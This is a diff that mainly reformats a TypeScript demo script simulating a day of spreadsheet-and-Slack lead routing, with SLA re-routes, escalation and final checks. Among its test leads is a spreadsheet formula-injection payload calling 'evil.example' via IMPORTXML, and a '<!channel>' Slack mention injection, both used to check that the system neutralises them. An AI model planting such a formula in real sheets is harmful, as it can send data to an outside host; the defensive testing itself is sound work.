@@ -31,11 +31,22 @@ const SETTINGS = { sla_minutes: 30, escalation_threshold: 3, leads_channel_id: L
 
 // ---------------------------------------------------------------- formatting
 
-const hhmmFormat = new Intl.DateTimeFormat('en-GB', { timeZone: TZ, hour: '2-digit', minute: '2-digit', hourCycle: 'h23' });
+const hhmmFormat = new Intl.DateTimeFormat('en-GB', {
+  timeZone: TZ,
+  hour: '2-digit',
+  minute: '2-digit',
+  hourCycle: 'h23',
+});
 const hhmm = (ms: number): string => hhmmFormat.format(new Date(ms));
 /** "2026-11-26 09:05:00" as the sheet shows it → "09:05" (the whole demo is one day). */
-const sheetTime = (value: unknown): string => String(value ?? '').replace(/^\d{4}-\d{2}-\d{2} (\d{2}:\d{2}):\d{2}$/, '$1');
-const EMOJI: Record<string, string> = { ':white_check_mark:': '✅', ':arrow_right:': '➡️', ':rotating_light:': '🚨', ':warning:': '⚠️' };
+const sheetTime = (value: unknown): string =>
+  String(value ?? '').replace(/^\d{4}-\d{2}-\d{2} (\d{2}:\d{2}):\d{2}$/, '$1');
+const EMOJI: Record<string, string> = {
+  ':white_check_mark:': '✅',
+  ':arrow_right:': '➡️',
+  ':rotating_light:': '🚨',
+  ':warning:': '⚠️',
+};
 const emoji = (text: string): string => text.replace(/:[a-z_]+:/g, (code) => EMOJI[code] ?? code);
 
 const out = (line = ''): void => console.log(line);
@@ -64,13 +75,20 @@ const heading = (title: string): void => {
 
 const world = new World({ reps: REPS, settings: SETTINGS, uuidSeed: 2026 });
 const { rt } = world;
-const names: Record<string, string> = { [AYU]: 'Ayu', [BIMA]: 'Bima', [CITRA]: 'Citra', [MANAGER]: 'the manager' };
+const names: Record<string, string> = {
+  [AYU]: 'Ayu',
+  [BIMA]: 'Bima',
+  [CITRA]: 'Citra',
+  [MANAGER]: 'the manager',
+};
 const who = (id: unknown): string => names[String(id)] ?? String(id ?? '');
 
 /** The `setup: ✓ … | ✗ …` line the latest setup() run logged. */
 function setupReport(): string[] {
   const line = [...rt.logs].reverse().find((l) => l.text.includes('setup: '));
-  return line ? line.text.slice(line.text.indexOf('setup: ') + 'setup: '.length).split(' | ') : ['(setup logged nothing)'];
+  return line
+    ? line.text.slice(line.text.indexOf('setup: ') + 'setup: '.length).split(' | ')
+    : ['(setup logged nothing)'];
 }
 
 function leadName(leadId: unknown): string {
@@ -99,17 +117,28 @@ function narrate(source: string): void {
         const lead = world.leads().find((l) => l.lead_id === r.lead_id) ?? {};
         const phone = lead.phone ? `+${String(lead.phone)}` : `unreadable, kept as typed`;
         const next = rows[i + 1];
-        const to = next && next.event === 'ASSIGNED' && next.lead_id === r.lead_id ? `→ ${who(next.to_slack_id)}` : '';
+        const to =
+          next && next.event === 'ASSIGNED' && next.lead_id === r.lead_id
+            ? `→ ${who(next.to_slack_id)}`
+            : '';
         if (to) i++;
-        line(`${name.padEnd(26)} phone ${`"${String(lead.phone_raw)}"`.padEnd(20)} ${phone.padEnd(26)} ${to}`);
+        line(
+          `${name.padEnd(26)} phone ${`"${String(lead.phone_raw)}"`.padEnd(20)} ${phone.padEnd(26)} ${to}`,
+        );
         break;
       }
       case 'ASSIGNED':
         line(`${name} assigned to ${who(r.to_slack_id)} (${String(r.detail)})`);
         break;
       case 'REROUTED':
-        if (r.from_slack_id === r.to_slack_id) line(`${name}: nobody else is active, re-sent to ${who(r.to_slack_id)} as a reminder (${String(r.detail).split(';')[0]})`);
-        else line(`${name}: ${who(r.from_slack_id)} let ${SETTINGS.sla_minutes} min pass → re-routed to ${who(r.to_slack_id)} (${String(r.detail).split(';')[0]})`);
+        if (r.from_slack_id === r.to_slack_id)
+          line(
+            `${name}: nobody else is active, re-sent to ${who(r.to_slack_id)} as a reminder (${String(r.detail).split(';')[0]})`,
+          );
+        else
+          line(
+            `${name}: ${who(r.from_slack_id)} let ${SETTINGS.sla_minutes} min pass → re-routed to ${who(r.to_slack_id)} (${String(r.detail).split(';')[0]})`,
+          );
         break;
       case 'ESCALATED':
         line(`${name}: ESCALATED to ${who(r.to_slack_id)} by DM (${String(r.detail)})`);
@@ -129,11 +158,17 @@ function narrate(source: string): void {
   }
   const ephemerals = allEphemerals().slice(ephemeralSeen);
   ephemeralSeen += ephemerals.length;
-  for (const e of ephemerals) outWrapped(`${' '.repeat(14)}only ${who(e.user)} sees: "${rt.slack.renderText(e)}"`, ' '.repeat(20));
+  for (const e of ephemerals)
+    outWrapped(
+      `${' '.repeat(14)}only ${who(e.user)} sees: "${rt.slack.renderText(e)}"`,
+      ' '.repeat(20),
+    );
 }
 
 function allEphemerals(): Array<ReturnType<typeof rt.slack.ephemerals>[number]> {
-  return [AYU, BIMA, CITRA, MANAGER].flatMap((u) => rt.slack.ephemerals(u)).sort((a, b) => Number(a.messageTs) - Number(b.messageTs));
+  return [AYU, BIMA, CITRA, MANAGER]
+    .flatMap((u) => rt.slack.ephemerals(u))
+    .sort((a, b) => Number(a.messageTs) - Number(b.messageTs));
 }
 
 const sweepTotals = { runs: 0, read: 0, rerouted: 0, escalated: 0, assigned: 0 };
@@ -151,8 +186,14 @@ function until(time: string): void {
 
 function countSweep(record: ExecutionRecord): void {
   if (record.entry !== 'runSlaSweep') return;
-  if (!record.ok) throw new Error(`the sweep failed at ${hhmm(record.endedMs)}: ${String(record.error)}`);
-  const report = record.value as { rerouted: number; escalated: number; assigned: number; skipped?: boolean };
+  if (!record.ok)
+    throw new Error(`the sweep failed at ${hhmm(record.endedMs)}: ${String(record.error)}`);
+  const report = record.value as {
+    rerouted: number;
+    escalated: number;
+    assigned: number;
+    skipped?: boolean;
+  };
   sweepTotals.runs++;
   if (!report.skipped) sweepTotals.read++;
   sweepTotals.rerouted += report.rerouted;
@@ -162,7 +203,12 @@ function countSweep(record: ExecutionRecord): void {
 
 const ids: Record<string, string> = {};
 
-function submit(time: string, key: string, answers: Record<string, string>, options?: { duplicate?: boolean }): void {
+function submit(
+  time: string,
+  key: string,
+  answers: Record<string, string>,
+  options?: { duplicate?: boolean },
+): void {
   until(time);
   const id = world.submit(answers, options);
   if (!id) throw new Error(`no lead was created for ${key}`);
@@ -197,29 +243,56 @@ heading('09:00 set-up');
 out('The admin links the form and runs Lead Routing → Set up. It reports:');
 for (const line of setupReport()) outWrapped(`  ${line}`, '      ');
 out(`The admin fills in sales_sheet (Ayu, Bima, Citra), manager_slack_id = ${MANAGER},`);
-out(`sla_minutes = ${SETTINGS.sla_minutes}, escalation_threshold = ${SETTINGS.escalation_threshold}, leads_channel_id = ${LEADS_CHANNEL} (#leads), and runs Set up again:`);
+out(
+  `sla_minutes = ${SETTINGS.sla_minutes}, escalation_threshold = ${SETTINGS.escalation_threshold}, leads_channel_id = ${LEADS_CHANNEL} (#leads), and runs Set up again:`,
+);
 const missing = rt.run('setup') as string[];
 for (const line of setupReport().filter((l) => !l.startsWith('✓'))) out(`  ${line}`);
 if (missing.length) out(`  (${missing.length} thing(s) still missing)`);
-out(`Triggers installed: ${rt.triggers.map((t) => `${t.handler} (${t.eventType === 'CLOCK' ? `every ${Number(t.intervalMs) / 60_000} min` : 'on form submit'})`).join(', ')}`);
+out(
+  `Triggers installed: ${rt.triggers.map((t) => `${t.handler} (${t.eventType === 'CLOCK' ? `every ${Number(t.intervalMs) / 60_000} min` : 'on form submit'})`).join(', ')}`,
+);
 logSeen = world.log().length;
 
 // ---------------------------------------------------------------- the day
 
-heading('the day (form = a form response arrives, slack = a button click, sweep = the SLA trigger)');
-submit('09:05', 'rina', { Name: 'Rina Wulandari', Phone: '0812-3456-7890', Email: 'rina.w@example.com' });
+heading(
+  'the day (form = a form response arrives, slack = a button click, sweep = the SLA trigger)',
+);
+submit('09:05', 'rina', {
+  Name: 'Rina Wulandari',
+  Phone: '0812-3456-7890',
+  Email: 'rina.w@example.com',
+});
 submit('09:12', 'budi', { Name: 'Budi Santoso', Phone: '+62 813 1234 5678', Email: '' });
 click('09:14', AYU, 'rina');
-submit('09:20', 'siti', { Name: 'Siti Rahma', Phone: '62 857 1122 3344', Email: 'siti@example.com' });
+submit('09:20', 'siti', {
+  Name: 'Siti Rahma',
+  Phone: '62 857 1122 3344',
+  Email: 'siti@example.com',
+});
 click('09:22', AYU, 'siti');
 click('09:26', CITRA, 'siti', { twice: true });
 click('09:52', CITRA, 'budi');
 submit('10:05', 'channel', { Name: '<!channel>', Phone: '0813 2222 3333', Email: '' });
-submit('10:15', 'dewi', { Name: 'Dewi Lestari', Phone: '(0812) 9876-5432', Email: 'dewi@example.com' });
+submit('10:15', 'dewi', {
+  Name: 'Dewi Lestari',
+  Phone: '(0812) 9876-5432',
+  Email: 'dewi@example.com',
+});
 click('10:20', AYU, 'channel');
-submit('10:30', 'john', { Name: 'John Carter', Phone: '+1 650-253-0000', Email: 'john@example.com' });
+submit('10:30', 'john', {
+  Name: 'John Carter',
+  Phone: '+1 650-253-0000',
+  Email: 'john@example.com',
+});
 click('10:40', CITRA, 'john');
-submit('10:50', 'formula', { Name: '=IMPORTXML("http://evil.example/x","//a")', Phone: '62-821-4455-6677', Email: '' }, { duplicate: true });
+submit(
+  '10:50',
+  'formula',
+  { Name: '=IMPORTXML("http://evil.example/x","//a")', Phone: '62-821-4455-6677', Email: '' },
+  { duplicate: true },
+);
 click('10:55', CITRA, 'dewi');
 submit('11:00', 'agus', { Name: 'Agus', Phone: 'call me', Email: 'agus@example.com' });
 click('11:02', AYU, 'formula');
@@ -230,7 +303,11 @@ note('13:00', 'Citra leaves for the day: sales_sheet active → FALSE for Citra'
 world.setReps(REPS.map((r) => (r.slackId === CITRA ? { ...r, active: false } : r)));
 submit('13:10', 'putri', { Name: 'Putri Ayu', Phone: '0821.7788.9900', Email: '' });
 click('13:15', AYU, 'putri');
-submit('13:30', 'hendra', { Name: 'Hendra Gunawan', Phone: '+62 (21) 555-1234', Email: 'hendra@example.com' });
+submit('13:30', 'hendra', {
+  Name: 'Hendra Gunawan',
+  Phone: '+62 (21) 555-1234',
+  Email: 'hendra@example.com',
+});
 click('14:05', AYU, 'agus');
 click('14:10', AYU, 'hendra');
 submit('14:30', 'maya', { Name: 'Maya Sari', Phone: '0838 1234 5678', Email: '' });
@@ -238,7 +315,9 @@ click('14:40', AYU, 'maya');
 submit('15:00', 'yusuf', { Name: 'Yusuf', Phone: '+6281311112222', Email: 'yusuf@example.com' });
 click('15:35', AYU, 'yusuf');
 until('16:00');
-out(`16:00  ${'-'.repeat(6)} end of the day: ${sweepTotals.runs} sweeps ran, ${sweepTotals.read} of them read the sheets (the others knew nothing was due yet); ${sweepTotals.rerouted} re-routes, ${sweepTotals.escalated} escalation`);
+out(
+  `16:00  ${'-'.repeat(6)} end of the day: ${sweepTotals.runs} sweeps ran, ${sweepTotals.read} of them read the sheets (the others knew nothing was due yet); ${sweepTotals.rerouted} re-routes, ${sweepTotals.escalated} escalation`,
+);
 
 // ---------------------------------------------------------------- the sheets
 
@@ -277,13 +356,22 @@ heading('sales_sheet');
 for (const line of formatTable(grid('sales_sheet'))) out(line);
 
 heading('routing_state_sheet');
-for (const line of formatTable(grid('routing_state_sheet'), ['key', { key: 'value', format: time }])) out(line);
+for (const line of formatTable(grid('routing_state_sheet'), [
+  'key',
+  { key: 'value', format: time },
+]))
+  out(line);
 
 heading('dashboard (refreshed by every sweep; two charts sit beside it)');
 const board = rt.book.sheet('dashboard').displayRows();
-for (const row of board.slice(0, 9)) if (row.some((c) => c !== '')) out(`  ${row.filter((c) => c !== '').join('  ')}`);
-for (const line of formatTable(rowsFromGrid(board.slice(10, 10 + 1 + REPS.length).map((r) => r.slice(0, 9))))) out(line);
-for (const chart of rt.book.sheet('dashboard').charts()) out(`  chart: ${chart.title} (${chart.type}) over ${chart.ranges.join(', ')}`);
+for (const row of board.slice(0, 9))
+  if (row.some((c) => c !== '')) out(`  ${row.filter((c) => c !== '').join('  ')}`);
+for (const line of formatTable(
+  rowsFromGrid(board.slice(10, 10 + 1 + REPS.length).map((r) => r.slice(0, 9))),
+))
+  out(line);
+for (const chart of rt.book.sheet('dashboard').charts())
+  out(`  chart: ${chart.title} (${chart.type}) over ${chart.ranges.join(', ')}`);
 
 // ---------------------------------------------------------------- Slack
 
@@ -304,34 +392,71 @@ function showMessage(m: SlackMessage): void {
   if (line) out(`         ${line}`);
 }
 
-heading(`Slack #leads (${rt.slack.messages(LEADS_CHANNEL).length} messages, as the reps read them now)`);
+heading(
+  `Slack #leads (${rt.slack.messages(LEADS_CHANNEL).length} messages, as the reps read them now)`,
+);
 for (const m of rt.slack.messages(LEADS_CHANNEL)) showMessage(m);
 
 out('  Two of them as first posted, before the button was pressed or the lead moved on:');
-const about = (leadId: string): SlackMessage[] => rt.slack.messages(LEADS_CHANNEL).filter((m) => (m.updates[0]?.previous ?? m).text.includes(leadId));
-for (const m of [about(ids.rina)[0], about(ids.budi).slice(-1)[0]]) if (m) showMessage({ ...m, ...(m.updates[0]?.previous ?? {}), updates: [] });
+const about = (leadId: string): SlackMessage[] =>
+  rt.slack
+    .messages(LEADS_CHANNEL)
+    .filter((m) => (m.updates[0]?.previous ?? m).text.includes(leadId));
+for (const m of [about(ids.rina)[0], about(ids.budi).slice(-1)[0]])
+  if (m) showMessage({ ...m, ...(m.updates[0]?.previous ?? {}), updates: [] });
 
 heading('Slack DM to the manager');
 for (const m of rt.slack.dm(MANAGER)) showMessage(m);
-for (const rep of [AYU, BIMA, CITRA]) if (rt.slack.dm(rep).length) out(`  (and ${rt.slack.dm(rep).length} DM(s) to ${who(rep)})`);
+for (const rep of [AYU, BIMA, CITRA])
+  if (rt.slack.dm(rep).length) out(`  (and ${rt.slack.dm(rep).length} DM(s) to ${who(rep)})`);
 
 heading('Slack ephemeral replies ("only visible to you")');
-for (const e of allEphemerals()) out(`  ${hhmm(Number(e.messageTs) * 1000)}  to ${who(e.user)}: ${rt.slack.renderText(e)}`);
+for (const e of allEphemerals())
+  out(`  ${hhmm(Number(e.messageTs) * 1000)}  to ${who(e.user)}: ${rt.slack.renderText(e)}`);
 
 // ---------------------------------------------------------------- checks
 
 heading('checks');
 const leadRows = world.leads();
-const leadFormulas = rt.book.sheet('lead_sheet').formulas().flat().filter((f) => f !== '');
+const leadFormulas = rt.book
+  .sheet('lead_sheet')
+  .formulas()
+  .flat()
+  .filter((f) => f !== '');
 const formulaLead = leadRows.find((l) => l.lead_id === ids.formula);
-const posted = rt.slack.requests.filter((r) => r.method === 'chat.postMessage').map((r) => r.rawBody);
+const posted = rt.slack.requests
+  .filter((r) => r.method === 'chat.postMessage')
+  .map((r) => r.rawBody);
 const escalations = world.log().filter((r) => r.event === 'ESCALATED');
 const check = (ok: boolean, text: string): void => out(`  ${ok ? 'ok  ' : 'FAIL'}  ${text}`);
-check(leadRows.every((l) => typeof l.phone === 'string'), 'every phone in lead_sheet is text (62812… never became a number)');
-check(leadFormulas.length === 0 && typeof formulaLead?.name === 'string' && formulaLead.name.startsWith('='), `the "=IMPORTXML(…)" name is stored as text, not a formula (${leadFormulas.length} formulas in lead_sheet)`);
-check(posted.some((b) => b.includes('&lt;!channel&gt;')) && !posted.some((b) => b.includes('<!channel>')), 'the lead named "<!channel>" reached Slack escaped (&lt;!channel&gt;): nobody was pinged');
-check(escalations.length === 1 && rt.slack.dm(MANAGER).length === 1, `one escalation, one message to the manager (log: ${escalations.length}, DMs: ${rt.slack.dm(MANAGER).length})`);
-check(leadRows.length === 12, `${leadRows.length} leads from 13 trigger firings (one response delivered twice)`);
-check(rt.failures.length === 0 && rt.lockLeaks.length === 0, `no failed executions (${rt.failures.length}), no leaked locks (${rt.lockLeaks.length}), ${rt.executions.length} executions in all`);
-const health = JSON.parse(String((rt.run('doGet') as { getContent(): string }).getContent())) as Record<string, unknown>;
+check(
+  leadRows.every((l) => typeof l.phone === 'string'),
+  'every phone in lead_sheet is text (62812… never became a number)',
+);
+check(
+  leadFormulas.length === 0 &&
+    typeof formulaLead?.name === 'string' &&
+    formulaLead.name.startsWith('='),
+  `the "=IMPORTXML(…)" name is stored as text, not a formula (${leadFormulas.length} formulas in lead_sheet)`,
+);
+check(
+  posted.some((b) => b.includes('&lt;!channel&gt;')) &&
+    !posted.some((b) => b.includes('<!channel>')),
+  'the lead named "<!channel>" reached Slack escaped (&lt;!channel&gt;): nobody was pinged',
+);
+check(
+  escalations.length === 1 && rt.slack.dm(MANAGER).length === 1,
+  `one escalation, one message to the manager (log: ${escalations.length}, DMs: ${rt.slack.dm(MANAGER).length})`,
+);
+check(
+  leadRows.length === 12,
+  `${leadRows.length} leads from 13 trigger firings (one response delivered twice)`,
+);
+check(
+  rt.failures.length === 0 && rt.lockLeaks.length === 0,
+  `no failed executions (${rt.failures.length}), no leaked locks (${rt.lockLeaks.length}), ${rt.executions.length} executions in all`,
+);
+const health = JSON.parse(
+  String((rt.run('doGet') as { getContent(): string }).getContent()),
+) as Record<string, unknown>;
 out(`  doGet (uptime check, time in UTC): ${JSON.stringify(health)}`);
